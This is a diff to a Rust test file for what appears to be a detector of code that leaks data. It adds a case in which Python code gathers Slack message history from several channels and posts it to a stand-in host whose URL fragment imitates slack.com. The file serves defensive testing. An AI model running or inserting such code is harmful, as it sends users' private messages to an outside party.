@@ -3830,6 +3830,11 @@ fn a_secret_file_sent_whole_needs_a_human(
     "import requests\nout = []\nfor ch in channels:\n    resp = client.conversations_history(channel=ch)\n    out.extend(resp[\"messages\"])\nrequests.post(\"https://webhook.example.net/slack\", json=out)\n",
     Some(("sends-message-history", 6))
 )]
+#[case::py_history_to_a_host_whose_fragment_names_slack(
+    crate::Lang::Python,
+    "import requests\nout = []\nfor ch in channels:\n    resp = client.conversations_history(channel=ch)\n    out.extend(resp[\"messages\"])\nrequests.post(\"https://archive.example.net/u#.slack.com\", json=out)\n",
+    Some(("sends-message-history", 6))
+)]
 #[case::py_variable_names_listed(
     crate::Lang::Python,
     "for v in project.variables.list(get_all=True):\n    print(v.key, v.protected)\n",
